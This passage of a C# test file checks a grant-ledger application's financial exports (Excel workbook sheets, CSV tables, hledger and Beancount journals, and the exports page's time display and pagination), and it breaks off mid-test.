using System.Globalization;
using System.IO.Compression;
using System.Net;
using System.Security.Cryptography;
using System.Text.Json.Nodes;
using System.Text.RegularExpressions;
using GrantLedger.Web.Access;
using GrantLedger.Web.Exports;
using GrantLedger.Web.Infrastructure;
using GrantLedger.Web.Tests.Support;
using Microsoft.Extensions.DependencyInjection;

namespace GrantLedger.Web.Tests.Exports;

public sealed class ExportTests(DatabaseFixture db) : DatabaseTest(db)
{
    private static readonly string[] SheetNames =
        ["About", "Summary", "Schools", "Claims", "Claim lines", "Payment runs", "Action-plan spend by theme", "Journal", "Trial balance", "Checks"];

    private static string Pounds(long pence) => new Core.Money.Money(pence).ToDecimalString();

    private static JsonNode Sheet(JsonNode book, string name) => book["sheets"]!.AsArray().Single(s => s!["name"]!.GetValue<string>() == name)!;

    private static string[] Headers(JsonNode sheet) => sheet["headers"]!.AsArray().Select(h => h!.GetValue<string>()).ToArray();

    private static decimal Sum(JsonNode sheet, string column) => decimal.Parse(sheet["sums"]![column]!.GetValue<string>(), CultureInfo.InvariantCulture);

    private async Task<IReadOnlyList<ExportedFile>> ExportAsync(ExportWorld x, ExportKind kind, string folder, ExportOptions? options = null) =>
        await Db.InScopeAsync(sp => Exporter.WriteAsync(sp.GetRequiredService<GrantLedgerDb>(),
            new CurrentUser(x.Finance.UserId, x.Finance.UserName, Roles.FunderFinance, x.ProgrammeId, null, null), x.ProgrammeId, kind, x.Today,
            folder, null, options));

    /// <summary>
    /// A sheet's Area and School columns are as wide as the programme's longest names and two more (within 60 characters):
    /// PINS's integrated care boards' names run to 59, and a fixed column of 24 cut them off on every sheet that has one.
    /// </summary>
    [Fact]
    public async Task Workbook_AreaAndSchoolColumns_AreAsWideAsTheProgrammesLongestNames()
    {
        var x = await ExportWorld.CreateAsync(Db);
        const string icb = "NHS Cornwall and the Isles of Scilly ICB"; // 40 characters
        const string school = "The Blessed Cardinal Newman Catholic Primary School and Nursery";
        await Db.ScalarAsync("WITH u AS (UPDATE area SET name = $2 WHERE programme_id = $1 AND code = 'area-1' RETURNING 1) SELECT count(*) FROM u", x.ProgrammeId, icb);
        await Db.ScalarAsync("WITH u AS (UPDATE school SET name = $2 WHERE id = $1 RETURNING 1) SELECT count(*) FROM u", x.W.S.Schools[0].Id, school);
        var file = (await ExportAsync(x, ExportKind.Workbook, ExportWorld.TempFolder())).Single();
        var book = await ExportWorld.ReadWorkbookAsync(file.Path);
        double Width(string sheet, string header)
        {
            var s = Sheet(book, sheet);
            var column = (char)('A' + Array.IndexOf(Headers(s), header));
            return s["widths"]![column.ToString()]!.GetValue<double>();
        }
        foreach (var sheet in new[] { "Summary", "Schools", "Claims", "Payment runs", "Action-plan spend by theme" })
            Assert.True(Width(sheet, "Area") is >= 42 - 0.5 and <= 42 + 1, $"{sheet}: {Width(sheet, "Area")}");
        foreach (var sheet in new[] { "Schools", "Claims", "Claim lines", "Action-plan spend by theme" })
            Assert.True(Width(sheet, "School") is >= 60 - 0.5 and <= 60 + 1, $"{sheet}: {Width(sheet, "School")}"); // 63 characters: the most, 60
    }

    /// <summary>
    /// A school's accounts are named after it, and PINS has seven schools of each name: the trial balance's Name column read
    /// "Riverside Primary School: Staff-time cover available 2026-27" on seven rows, the URN only inside the account code.
    /// Each account of a school has its school's URN in a URN column beside its name, as every other sheet that names a
    /// school has; the programme's own accounts have none.
    /// </summary>
    [Fact]
    public async Task Workbook_TrialBalance_GivesEachSchoolsAccountItsSchoolsUrn_BesideItsName()
    {
        var x = await ExportWorld.CreateAsync(Db);
        await Db.ScalarAsync("WITH u AS (UPDATE school SET name = 'Riverside Primary School' WHERE programme_id = $1 RETURNING 1) SELECT count(*) FROM u", x.ProgrammeId);
        var file = (await ExportAsync(x, ExportKind.Workbook, ExportWorld.TempFolder())).Single();
        var tb = Sheet(await ExportWorld.ReadWorkbookAsync(file.Path), "Trial balance");
        Assert.Equal(["Account", "Unit", "URN", "Name", "Normal side", "Debits", "Credits", "Balance", "Pending debits", "Pending credits"], Headers(tb));
        var rows = tb["rows"]!.AsArray().Select(r => (Code: r![0]!.GetValue<string>(), Urn: r[2]?.GetValue<string>())).ToList();
        Assert.Equal(await Db.ScalarAsync("SELECT count(*) FROM account WHERE programme_id = $1", x.ProgrammeId), rows.Count);
        Assert.Equal(4, rows.Where(r => r.Urn is not null).Select(r => r.Urn).Distinct().Count());
        Assert.All(rows, r => Assert.Equal(Regex.Match(r.Code, ":school:([0-9]+):") is { Success: true } m ? m.Groups[1].Value : null, r.Urn));
    }

    [Fact]
    public async Task Workbook_RunsAsABackgroundJob_AndReadsBackWithItsSheetsHeadersTotalsAndFormats()
    {
        var x = await ExportWorld.CreateAsync(Db);
        var (job, percentages) = await ExportWorld.RunJobAsync(x.Finance, x.ProgrammeId, "workbook", x.Today);
        Assert.Equal("succeeded", job["state"]!.GetValue<string>());
        Assert.Equal(100, job["percentDone"]!.GetValue<int>());
        Assert.True(percentages.SequenceEqual(percentages.Order()), $"the percentage only goes up: {string.Join(",", percentages)}");
        Assert.Equal($"{x.Code}-{x.Today:yyyy-MM-dd}-reconciliation.xlsx", job["fileName"]!.GetValue<string>());

        using var response = await x.Finance.Http.GetAsync(job["file"]!.GetValue<string>());
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal(Exporter.XlsxType, response.Content.Headers.ContentType!.MediaType);
        var bytes = await response.Content.ReadAsByteArrayAsync();
        Assert.Equal(job["sha256"]!.GetValue<string>(), Convert.ToHexStringLower(SHA256.HashData(bytes)));
        Assert.Equal(job["sha256"]!.GetValue<string>(), response.Headers.GetValues("X-Content-SHA256").Single());
        var path = Path.Combine(ExportWorld.TempFolder(), "book.xlsx");
        await File.WriteAllBytesAsync(path, bytes);

        var book = await ExportWorld.ReadWorkbookAsync(path);
        Assert.Empty(book["warnings"]!.AsArray()); // e.g. "Workbook contains no default style"
        Assert.Equal(SheetNames, book["sheets"]!.AsArray().Select(s => s!["name"]!.GetValue<string>()));
        foreach (var sheet in book["sheets"]!.AsArray().Skip(1))
        {
            Assert.Equal("A2", sheet!["freeze"]!.GetValue<string>());
            Assert.StartsWith("A1:", sheet["autoFilter"]!.GetValue<string>());
            Assert.All(sheet["widths"]!.AsObject(), w => Assert.InRange(w.Value!.GetValue<double>(), 6, 120));
        }

        var summary = Sheet(book, "Summary");
        Assert.Equal(["Area", "Year", "Schools", "Allocated", "Reserved", "Approved", "Paid", "Payable", "Available",
            "Staff time allowance (min)", "Staff time reserved (min)", "Staff time used (min)", "Staff time available (min)"], Headers(summary));
        Assert.Equal(4, summary["maxRow"]!.GetValue<int>()); // two areas and the programme's total
        Assert.Equal(WorkbookWriter.MoneyFormat, summary["formats"]!["Allocated"]!.GetValue<string>());
        Assert.Equal("#,##0", summary["formats"]!["Staff time used (min)"]!.GetValue<string>());
        // the last row is the programme's total for the year: each column the sum of the areas', as a formula with its value
        var areaRows = summary["rows"]!.AsArray().SkipLast(1).ToList();
        var total = summary["rows"]!.AsArray()[^1]!;
        Assert.Equal(["Total", areaRows[0]![1]!.GetValue<string>(), "4"], new[] { total[0], total[1], total[2] }.Select(v => v!.GetValue<string>()));
        decimal Cell(JsonNode? row, int column) => decimal.Parse(row![column]!.GetValue<string>(), CultureInfo.InvariantCulture);
        for (var i = 2; i < 13; i++)
        {
            Assert.Equal(areaRows.Sum(r => Cell(r, i)), Cell(total, i));
            Assert.Equal($"=SUM({(char)('A' + i)}2:{(char)('A' + i)}3)", summary["formulas"]![2]![i]!.GetValue<string>());
        }
        decimal Total(string column) => Cell(total, Array.IndexOf(Headers(summary), column));
        foreach (var (column, pence) in new[] { ("Allocated", ExportWorld.Allocated), ("Reserved", ExportWorld.Reserved), ("Approved", ExportWorld.Approved),
                     ("Paid", ExportWorld.Paid), ("Payable", ExportWorld.Payable), ("Available", ExportWorld.Available) })
            Assert.True(Total(column) == decimal.Parse(Pounds(pence), CultureInfo.InvariantCulture), $"{column}: {Total(column)}");
        Assert.Equal(ExportWorld.TimeAllowance, Total("Staff time allowance (min)"));
        Assert.Equal(ExportWorld.TimeReserved, Total("Staff time reserved (min)"));
        Assert.Equal(ExportWorld.TimeUsed, Total("Staff time used (min)"));
        Assert.Equal(ExportWorld.TimeAvailable, Total("Staff time available (min)"));

        var schools = Sheet(book, "Schools");
        Assert.Equal(1 + 4 * 4, schools["maxRow"]!.GetValue<int>()); // 4 schools x (3 money categories + contact time)
        Assert.Equal(Total("Allocated"), Sum(schools, "Allocated"));
        Assert.Equal(Total("Staff time used (min)"), Sum(schools, "Staff time used (min)"));

        var claims = Sheet(book, "Claims");
        Assert.Equal(1 + x.Claims, claims["maxRow"]!.GetValue<int>());
        Assert.Equal(["Claim", "Area", "URN", "School", "Year", "Half-term", "State", "Submitted", "Decided", "Claimed", "Approved",
            "Staff time from allowances (min)", "Payment run"], Headers(claims));
        Assert.Equal(new[] { "draft", "in-payment-run", "paid", "paid", "rejected", "under-review" },
            claims["rows"]!.AsArray().Select(r => r![6]!.GetValue<string>()).Order());
        Assert.Equal(570m, Sum(claims, "Approved"));
        // the claims holding or using time take from the allowances what the summary says is reserved and used
        var minutes = Array.IndexOf(Headers(claims), "Staff time from allowances (min)");
        Assert.Equal(ExportWorld.TimeReserved + ExportWorld.TimeUsed, claims["rows"]!.AsArray()
            .Where(r => r![6]!.GetValue<string>() is not ("draft" or "rejected" or "withdrawn")).Sum(r => decimal.Parse(r![minutes]!.GetValue<string>(), CultureInfo.InvariantCulture)));
        Assert.Equal("yyyy\\-mm\\-dd\\ hh:mm", claims["formats"]!["Submitted"]!.GetValue<string>());

        var runs = Sheet(book, "Payment runs");
        Assert.Equal(3, runs["maxRow"]!.GetValue<int>());
        Assert.Equal(570m, Sum(runs, "Amount"));
        Assert.Equal(new[] { "paid", "pending" }, runs["rows"]!.AsArray().Select(r => r![Array.IndexOf(Headers(runs), "Status")]!.GetValue<string>()).Order());

        var themes = Sheet(book, "Action-plan spend by theme");
        var learning = themes["rows"]!.AsArray().Single(r => r![4]!.GetValue<string>() == "learning")!;
        Assert.Equal(["300", "120", "120"], new[] { learning[7], learning[8], learning[9] }.Select(v => decimal.Parse(v!.GetValue<string>()).ToString("0.##")));

        var journal = Sheet(book, "Journal");
        var transfers = await Db.ScalarAsync("SELECT count(*) FROM transfer WHERE programme_id = $1", x.ProgrammeId);
        Assert.Equal(1 + transfers, journal["maxRow"]!.GetValue<int>());

        var tb = Sheet(book, "Trial balance");
        Assert.Equal(WorkbookWriter.MoneyFormat, tb["formats"]!["Debits"]!.GetValue<string>()); // the first row is money
        Assert.Equal(0m, Sum(tb, "Balance"));

        var checks = Sheet(book, "Checks");
        Assert.Equal(["Check", "Unit", "Left", "Right", "Difference", "Holds", "Why"], Headers(checks));
        Assert.Equal(10, checks["rows"]!.AsArray().Count); // six for money, four for staff time
        Assert.All(checks["rows"]!.AsArray(), r =>
        {
            Assert.True(r![5]!.GetValue<bool>(), $"{r[0]} does not hold: {r[2]} against {r[3]}");
            Assert.Equal(0m, decimal.Parse(r[4]!.GetValue<string>(), CultureInfo.InvariantCulture));
        });
        Assert.Equal("=C2-D2", checks["formulas"]![0]![4]!.GetValue<string>()); // a formula, with its value written too
        var funded = checks["rows"]!.AsArray().First()!;
        Assert.Equal("10000", decimal.Parse(funded[3]!.GetValue<string>(), CultureInfo.InvariantCulture).ToString("0.##"));
    }

    /// <summary>
    /// Pounds and minutes share accounts' columns in the journal (a school's allocation and its staff-time allowance both
    /// leave the programme's accounts): without a unit on each row, a filtered sum added £4,200.00 and 155,925 minutes
    /// into 575,925.00. Each row says GBP or MIN, as the trial balance and the audit journal's CSV do, and the workbook
    /// shows minutes as whole minutes, pounds as pounds.
    /// </summary>
    [Fact]
    public async Task Journal_InCsvAndWorkbook_SaysEachRowsUnit_SoASumByUnitAddsPoundsOrMinutes_NeverBoth()
    {
        var x = await ExportWorld.CreateAsync(Db);
        var gbpCount = await Db.ScalarAsync("SELECT count(*) FROM transfer WHERE programme_id = $1 AND unit = 'GBP'", x.ProgrammeId);
        var minCount = await Db.ScalarAsync("SELECT count(*) FROM transfer WHERE programme_id = $1 AND unit = 'MIN'", x.ProgrammeId);
        var pence = await Db.ScalarAsync("SELECT sum(amount)::bigint FROM transfer WHERE programme_id = $1 AND unit = 'GBP'", x.ProgrammeId);
        var minutes = await Db.ScalarAsync("SELECT sum(amount)::bigint FROM transfer WHERE programme_id = $1 AND unit = 'MIN'", x.ProgrammeId);
        Assert.True(minCount > 0 && gbpCount > 0);

        var (csvJob, _) = await ExportWorld.RunJobAsync(x.Finance, x.ProgrammeId, "csv", x.Today);
        using var zipped = await x.Finance.Http.GetAsync(csvJob["file"]!.GetValue<string>());
        using var zip = new ZipArchive(await zipped.Content.ReadAsStreamAsync());
        string csv;
        using (var reader = new StreamReader(zip.Entries.Single(e => e.Name.EndsWith("-journal.csv")).Open())) csv = reader.ReadToEnd();
        var lines = csv.Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        Assert.EndsWith(",Debit account,Credit account,Unit,Amount", lines[0]);
        // the unit and the amount are the last two fields, and neither holds a comma
        var rows = lines.Skip(1).Select(l => l.Split(',')[^2..]).ToList();
        Assert.All(rows, r => Assert.Contains(r[0], new[] { "GBP", "MIN" }));
        Assert.Equal(gbpCount, rows.Count(r => r[0] == "GBP"));
        Assert.Equal(minCount, rows.Count(r => r[0] == "MIN"));
        Assert.All(rows.Where(r => r[0] == "GBP"), r => Assert.Matches(@"^\d+\.\d{2}$", r[1]));
        Assert.All(rows.Where(r => r[0] == "MIN"), r => Assert.Matches(@"^\d+$", r[1]));
        Assert.Equal(Pounds(pence), rows.Where(r => r[0] == "GBP").Sum(r => decimal.Parse(r[1], CultureInfo.InvariantCulture)).ToString("0.00", CultureInfo.InvariantCulture));
        Assert.Equal(minutes, rows.Where(r => r[0] == "MIN").Sum(r => long.Parse(r[1], CultureInfo.InvariantCulture)));

        var (bookJob, _) = await ExportWorld.RunJobAsync(x.Finance, x.ProgrammeId, "workbook", x.Today);
        var path = Path.Combine(ExportWorld.TempFolder(), "book.xlsx");
        await File.WriteAllBytesAsync(path, await x.Finance.Http.GetByteArrayAsync(bookJob["file"]!.GetValue<string>()));
        var journal = Sheet(await ExportWorld.ReadWorkbookAsync(path), "Journal");
        var headers = Headers(journal);
        Assert.Equal(["Debit account", "Credit account", "Unit", "Amount"], headers[^4..]);
        var (unit, amount) = (Array.IndexOf(headers, "Unit"), Array.IndexOf(headers, "Amount"));
        var sheetRows = journal["rows"]!.AsArray().Zip(journal["rowFormats"]!.AsArray(),
            (r, f) => (Unit: r![unit]!.GetValue<string>(), Amount: decimal.Parse(r[amount]!.GetValue<string>(), CultureInfo.InvariantCulture),
                       Format: f![amount]!.GetValue<string>())).ToList();
        Assert.Equal(gbpCount, sheetRows.Count(r => r.Unit == "GBP"));
        Assert.Equal(minCount, sheetRows.Count(r => r.Unit == "MIN"));
        Assert.All(sheetRows, r => Assert.Equal(r.Unit == "GBP" ? WorkbookWriter.MoneyFormat : "#,##0", r.Format));
        Assert.Equal(decimal.Parse(Pounds(pence), CultureInfo.InvariantCulture), sheetRows.Where(r => r.Unit == "GBP").Sum(r => r.Amount));
        Assert.Equal(minutes, sheetRows.Where(r => r.Unit == "MIN").Sum(r => r.Amount));
    }

    [Fact]
    public async Task Journals_InHledgerAndBeancount_RecomputeEveryAccountsBalance_AsTheTrialBalanceHasIt()
    {
        var x = await ExportWorld.CreateAsync(Db);
        var expected = await x.TrialBalanceAsync();
        Assert.Contains(expected.Keys, k => k.Unit == "MIN");
        var folder = ExportWorld.TempFolder();

        var hledger = await ExportAsync(x, ExportKind.Hledger, folder);
        Assert.Equal(new[] { $"{x.Code}-{x.Today:yyyy-MM-dd}.journal", $"{x.Code}-{x.Today:yyyy-MM-dd}-minutes.journal" },
            hledger.Select(f => Path.GetFileName(f.Path)));
        var fromHledger = new Dictionary<(string, string), decimal>();
        foreach (var file in hledger)
        {
            var check = await ExportWorld.RunAsync("hledger", "-f", file.Path, "check");
            Assert.True(check.Code == 0, $"hledger check (with the file's balance assertions): {check.Err}");
            var bal = await ExportWorld.RunAsync("hledger", "-f", file.Path, "bal", "-O", "csv", "-N", "--flat");
            Assert.True(bal.Code == 0, bal.Err);
            foreach (var line in bal.Out.Split('\n', StringSplitOptions.RemoveEmptyEntries).Skip(1))
            {
                var m = Regex.Match(line, "^\"([^\"]+)\",\"(-?[0-9.]+) (GBP|MIN)\"$");
                Assert.True(m.Success, $"unexpected hledger line {line}");
                fromHledger[(PlainTextJournal.CodeOf(m.Groups[1].Value), m.Groups[3].Value == "GBP" ? "GBP" : "MIN")] =
                    decimal.Parse(m.Groups[2].Value, CultureInfo.InvariantCulture);
            }
        }
        Assert.Equal(expected.OrderBy(e => e.Key), fromHledger.Where(e => e.Value != 0).OrderBy(e => e.Key));

        var beancount = await ExportAsync(x, ExportKind.Beancount, folder);
        var fromBeancount = new Dictionary<(string, string), decimal>();
        foreach (var file in beancount)
        {
            var check = await ExportWorld.RunAsync("bean-check", file.Path);
            Assert.True(check.Code == 0, $"bean-check (with the file's balance assertions): {check.Out}{check.Err}");
            var unit = file.Path.EndsWith("-minutes.beancount") ? "MIN" : "GBP";
            var query = await ExportWorld.RunAsync("bean-query", "-f", "csv", file.Path, "SELECT account, sum(number) AS total GROUP BY account");
            Assert.True(query.Code == 0, query.Err);
            foreach (var line in query.Out.Split('\n', StringSplitOptions.RemoveEmptyEntries).Skip(1))
            {
                var parts = line.Split(',');
                fromBeancount[(PlainTextJournal.CodeOf(parts[0].Trim()), unit)] = decimal.Parse(parts[1].Trim(), CultureInfo.InvariantCulture);
            }
        }
        Assert.Equal(expected.OrderBy(e => e.Key), fromBeancount.Where(e => e.Value != 0).OrderBy(e => e.Key));
        var opens = File.ReadAllText(beancount[0].Path);
        Assert.Contains("open Assets:", opens);
        Assert.Contains("open Liabilities:", opens);
    }

    /// <summary>
    /// Pages show a moment as a clock in the UK showed it: an export asked for at 08:30 UTC on 15 June was asked for at
    /// 09:30 BST, and one asked for at 23:30 UTC on 1 June on 2 June (until 2 December pages showed UTC).
    /// </summary>
    [Fact]
    public async Task ThePages_ShowWhenAnExportWasAskedFor_InUkTime()
    {
        var x = await ExportWorld.CreateAsync(Db);
        foreach (var at in new[] { "2026-06-15 08:30Z", "2026-06-01 23:30Z", "2026-12-15 08:30Z" })
            await Db.ScalarAsync($"""
                INSERT INTO export_job (programme_id, kind, as_of, requested_by, created_at, state, error, finished_at)
                VALUES ($1, 'csv', '2026-06-01', $2, '{at}', 'failed', 'test', '{at}') RETURNING id
                """, x.ProgrammeId, x.Finance.UserId);
        using var http = await Security.PageFormFuzzTests.SignedInPageAsync(Db.Factory, x.Finance.UserName);
        var page = await http.GetStringAsync($"/exports?programmeId={x.ProgrammeId}");
        Assert.Contains("15 Jun 2026 09:30", page);
        Assert.Contains("2 Jun 2026 00:30", page);
        Assert.Contains("15 Dec 2026 08:30", page);
    }

    /// <summary>
    /// The exports page listed the newest 50 without a word: a year of weekly exports later, last year's year-end workbook was
    /// out of reach. It lists them all, 50 a page, newest first, the caption saying which of how many.
    /// </summary>
    [Fact]
    public async Task TheExportsPage_ListsEveryExport_50APage_WithTheTrueCount()
    {
        var x = await ExportWorld.CreateAsync(Db);
        var ids = new List<long>();
        for (var i = 0; i < 51; i++)
            ids.Add(await Db.ScalarAsync("""
                INSERT INTO export_job (programme_id, kind, as_of, requested_by, state, error, finished_at)
                VALUES ($1, 'csv', '2026-06-01', $2, 'failed', 'test', now()) RETURNING id
                """, x.ProgrammeId, x.Finance.UserId));
        using var http = await Security.PageFormFuzzTests.SignedInPageAsync(Db.Factory, x.Finance.UserName);
        static List<long> Listed(string page) => Regex.Matches(page, "<a class=\"govuk-link\" href=\"/exports/(\\d+)\">").Select(m => long.Parse(m.Groups[1].Value)).ToList();
        static string Caption(string page) => Regex.Match(page, "<table class=\"govuk-table\" id=\"exports\">\\s*<caption[^>]*>(.*?)</caption>").Groups[1].Value;

        var first = WebUtility.HtmlDecode(await http.GetStringAsync($"/exports?programmeId={x.ProgrammeId}"));
        Assert.Equal("Exports 1 to 50 of 51, newest first", Caption(first));
        Assert.Contains($"href=\"/exports?programmeId={x.ProgrammeId}&page=2\"", first);
        var second = WebUtility.HtmlDecode(await http.GetStringAsync($"/exports?programmeId={x.ProgrammeId}&page=2"));
        Assert.Equal("Exports 51 to 51 of 51, newest first", Caption(second));
        Assert.Equal(ids.AsEnumerable().Reverse(), Listed(first).Concat(Listed(second)));
    }

    [Fact]
    public async Task Csv_ForEveryTable_HasAHeaderAndARowPerRecord_WithMoneyInPoundsToTwoPlaces()
    {
        var x = await ExportWorld.CreateAsync(Db);
        var (job, _) = await ExportWorld.RunJobAsync(x.W.S.Root, x.ProgrammeId, "csv", x.Today);
        Assert.Equal("succeeded", job["state"]!.GetValue<string>());
        Assert.Equal("application/zip", job["contentType"]!.GetValue<string>());
        using var response = await x.W.S.Root.Http.GetAsync($"/api/v1/exports/{job["id"]}/file");
        using var zip = new ZipArchive(await response.Content.ReadAsStreamAsync());
        var prefix = $"{x.Code}-{x.Today:yyyy-MM-dd}-";
        var files = zip.Entries.ToDictionary(e => e.Name[prefix.Length..^4], e =>
        {
            using var reader = new StreamReader(e.Open());
            return reader.ReadToEnd();
        });
        Assert.Equal(new[] { "action-plan-themes", "checks", "claim-lines", "claims", "journal", "payment-runs", "schools", "summary", "trial-balance" }, files.Keys.Order());
        Assert.All(files.Values, f => Assert.False(f.StartsWith('\uFEFF'), "no byte order mark"));

        var transfers = await Db.ScalarAsync("SELECT count(*) FROM transfer WHERE programme_id = $1", x.ProgrammeId);
        var accounts = await Db.ScalarAsync("SELECT count(*) FROM account WHERE programme_id = $1", x.ProgrammeId);
        foreach (var (table, header, rows) in new[]
                 {
                     ("summary", "Area,Year,Schools,Allocated,Reserved,Approved,Paid,Payable,Available,Staff time allowance (min),Staff time reserved (min),Staff time used (min),Staff time available (min)", 3L), // two areas and the total
                     ("schools", "Area,URN,School,Year,Category,Unit,Allocated,Reserved,Approved,Paid,Payable,Available,Staff time allowance (min),Staff time reserved (min),Staff time used (min),Staff time available (min)", 16L),
                     ("claims", "Claim,Area,URN,School,Year,Half-term,State,Submitted,Decided,Claimed,Approved,Staff time from allowances (min),Payment run", x.Claims),
                     ("claim-lines", "Claim,Line,URN,School,Year,Half-term,Claim state,Kind,Category,Allowance,Staff reference,Role,Activity or specialist,Date,Minutes,Action,Supplier,Invoice reference,Description,Claimed,Approved,Reason for less",
                         await Db.ScalarAsync("SELECT count(*) FROM claim_line l JOIN claim c ON c.id = l.claim_id WHERE c.programme_id = $1", x.ProgrammeId)),
                     ("payment-runs", "Run,State,Area,Year,Half-term,Claims approved by,Built,Approved,Exported,URN,School,Remittance reference,Amount,Status,Paid on", 2L),
                     ("action-plan-themes", "Area,URN,School,Year,Theme,Plan version,Actions,Estimated cost,Claimed,Approved", 2L),
                     ("journal", "Entry,Transfer,Value date,Recorded,Description,Cause,Cause id,Kind,Resolves,Debit account,Credit account,Unit,Amount", transfers),
                     ("trial-balance", "Account,Unit,URN,Name,Normal side,Debits,Credits,Balance,Pending debits,Pending credits", accounts),
                     ("checks", "Check,Unit,Left,Right,Difference,Holds,Why", 10L),
                 })
        {
            var lines = files[table].Split("\r\n");
            Assert.Equal("", lines[^1]); // CRLF after the last record too
            Assert.Equal(header, lines[0]);
            Assert.True(rows == lines.Length - 2, $"{table}: {lines.Length - 2} rows, expected {rows}");
        }
        var summary = files["summary"].Split("\r\n")[1].Split(',');
        Assert.Matches(@"^\d+\.\d{2}$", summary[3]);
        Assert.StartsWith($"Total,{summary[1]},4,{Pounds(ExportWorld.Allocated)},{Pounds(ExportWorld.Reserved)},", files["summary"].Split("\r\n")[3]); // in pounds, as the areas'
        var claims = files["claims"];
        Assert.Contains(",370.00,paid,", files["payment-runs"]);
        Assert.Contains(",200.00,pending,", files["payment-runs"]);
        Assert.Equal(57000, files["claims"].Split("\r\n").Skip(1).Where(l => l.Length > 0)
            .Sum(l => (long)(decimal.Parse(Regex.Match(l, @",(\d+\.\d{2}),(\d+\.\d{2}),").Groups[2].Value, CultureInfo.InvariantCulture) * 100)));
        Assert.DoesNotContain("£", claims);
        // each line traced: the invoice behind the action-plan claim, and why the reduced one was approved for less; a line's
        // staff time names the allowance it is held from beside its money's category (a specialist's day paid from no budget
        // gave no category, so nothing said whose time it took)
        Assert.Matches(@",action-plan,[^,]*,,,,,,,1,Sensory Ltd,INV-1,,120\.00,120\.00,\r\n", files["claim-lines"]);
        Assert.Matches(@",staff-time,staff-cover,contact-time,STAFF-05,leader,training,2026-10-06,450,,,,,250\.00,200\.00,six hours evidenced\r\n", files["claim-lines"]);
    }

    /// <summary>
    /// An export as of a date shows claims and payment runs as they stood at the end of that day: a payment confirmed
    /// after it is pending there (as the ledger's Paid, which counts payments by the day they were paid), its claims still
    /// in their run, the run exported, not paid. The sheets showed today's states, so the payment runs' sheet said paid
    /// beside a Checks sheet that did not count it. Here everything but the confirmation is moved a day back.
    /// </summary>
    [Fact]
    public async Task AnExportAsOfADate_ShowsClaimsAndPaymentRunsAsTheyStoodThen()
    {
        var x = await ExportWorld.CreateAsync(Db);
        await using (var back = Db.DataSource.CreateCommand($"""
            SET session_replication_role = replica; -- the records' own triggers keep their times: this test moves them
            UPDATE claim SET created_at = created_at - interval '1 day', submitted_at = submitted_at - interval '1 day',
                             decided_at = decided_at - interval '1 day' WHERE programme_id = {x.ProgrammeId};
            UPDATE claim_transition t SET occurred_at = occurred_at - interval '1 day'
              FROM claim c WHERE c.id = t.claim_id AND c.programme_id = {x.ProgrammeId} AND t.to_state <> 'paid';
            UPDATE payment_run SET built_at = built_at - interval '1 day', approved_at = approved_at - interval '1 day',
                                   exported_at = exported_at - interval '1 day' WHERE programme_id = {x.ProgrammeId};
            SET session_replication_role = origin;
            """))
            await back.ExecuteNonQueryAsync();
        var yesterday = x.Today.AddDays(-1);
        Task<Dictionary<string, string>> CsvAsync(DateOnly asOf) => CsvTablesAsync(x, asOf);

        var then = await CsvAsync(yesterday);
        var runs = then["payment-runs"].Split("\r\n").Skip(1).Where(l => l.Length > 0).ToList();
        Assert.Equal(2, runs.Count);
        Assert.All(runs, r => Assert.Matches(@"^PR-\d+,exported,", r));
        Assert.All(runs, r => Assert.EndsWith(",pending,", r)); // no confirmation yet, no paid-on date
        var claims = then["claims"];
        Assert.DoesNotContain(",paid,", claims);
        Assert.Equal(3, Regex.Matches(claims, ",in-payment-run,").Count);

        var now = await CsvAsync(x.Today);
        Assert.Contains(",370.00,paid,", now["payment-runs"]);
        Assert.Equal(2, Regex.Matches(now["claims"], ",paid,").Count);
    }

    /// <summary>The CSV export's tables by name, as of a date, asked for through the API.</summary>
    private static Task<Dictionary<string, string>> CsvTablesAsync(ExportWorld x, DateOnly asOf) => CsvTablesAsync(x.W.S, asOf);

    private static async Task<Dictionary<string, string>> CsvTablesAsync(Scenario s, DateOnly asOf)
    {
        var (job, _) = await ExportWorld.RunJobAsync(s.Root, s.ProgrammeId, "csv", asOf);
        Assert.Equal("succeeded", job["state"]!.GetValue<string>());
        using var response = await s.Root.Http.GetAsync($"/api/v1/exports/{job["id"]}/file");
        using var zip = new ZipArchive(await response.Content.ReadAsStreamAsync());
        var prefix = $"{s.Code}-{asOf:yyyy-MM-dd}-";
        return zip.Entries.ToDictionary(e => e.Name[prefix.Length..^4], e => new StreamReader(e.Open()).ReadToEnd());
    }

    /// <summary>A CSV table's rows, each by its header's column names (for tables whose values hold no comma or quote).</summary>
    private static List<Dictionary<string, string>> CsvRows(string csv)
    {
        var lines = csv.Split("\r\n").Where(l => l.Length > 0).ToList();
        var header = lines[0].Split(',');
        return lines.Skip(1).Select(l => header.Zip(l.Split(',')).ToDictionary(c => c.First, c => c.Second)).ToList();
    }

    /// <summary>
    /// Last year's Autumn 1 and this year's, side by side while last year is open: the claim lines' and payment runs'
    /// tables named a half-term alone ("Autumn 1"), so a finance officer could not tell which year's a line or a run was
    /// (found in an exploratory review). Each row gives its Year beside its Half-term, as the claims' table does; a run
    /// of every half-term, which may pay claims of both years, gives neither.
    /// </summary>
    [Fact]
    public async Task ClaimLinesAndPaymentRuns_GiveEachRowsYearBesideItsHalfTerm_WhenTwoYearsHaveAnAutumn1()
    {
        var w = await ClaimWorld.CreateAsync(Db, "2025-26");
        var s = w.S;
        var nextId = (await s.Root.PostAsync($"/api/v1/programmes/{s.ProgrammeId}/years", new { code = "2026-27" })).Expect(HttpStatusCode.Created).Id;
        var next = new Scenario
        {
            Root = s.Root, ProgrammeId = s.ProgrammeId, YearId = nextId, AreaIds = s.AreaIds, Schools = s.Schools, Categories = s.Categories, Code = s.Code,
            YearCode = "2026-27",
        };
        await next.FundAsync("4000.00");
        await next.AllocateEachAsync("staff-cover", "1000.00");
        var years = (await s.Root.GetAsync($"/api/v1/programmes/{s.ProgrammeId}/years")).Expect(HttpStatusCode.OK).Json.AsArray();
        var nextAutumn1 = years.Single(y => y!["id"]!.GetValue<long>() == nextId)!["periods"]!.AsArray()
            .Single(p => p!["code"]!.GetValue<string>() == "aut1")!["id"]!.GetValue<long>();

        async Task ApproveAsync(long claim) => (await w.Lead.PostAsync($"/api/v1/claims/{claim}/approve", null)).Expect(HttpStatusCode.OK);
        var lastYears = await w.UnderReviewAsync("STAFF-01", "2025-10-06");
        await ApproveAsync(lastYears);
        var thisYears = (await w.School.PostAsync("/api/v1/claims", new { periodId = nextAutumn1, description = "this year's" })).Expect(HttpStatusCode.Created).Id;
        await w.AddStaffTimeAsync(thisYears, "STAFF-02", "2026-10-06", allowance: false);
        (await w.SubmitAsync(thisYears)).Expect(HttpStatusCode.OK);
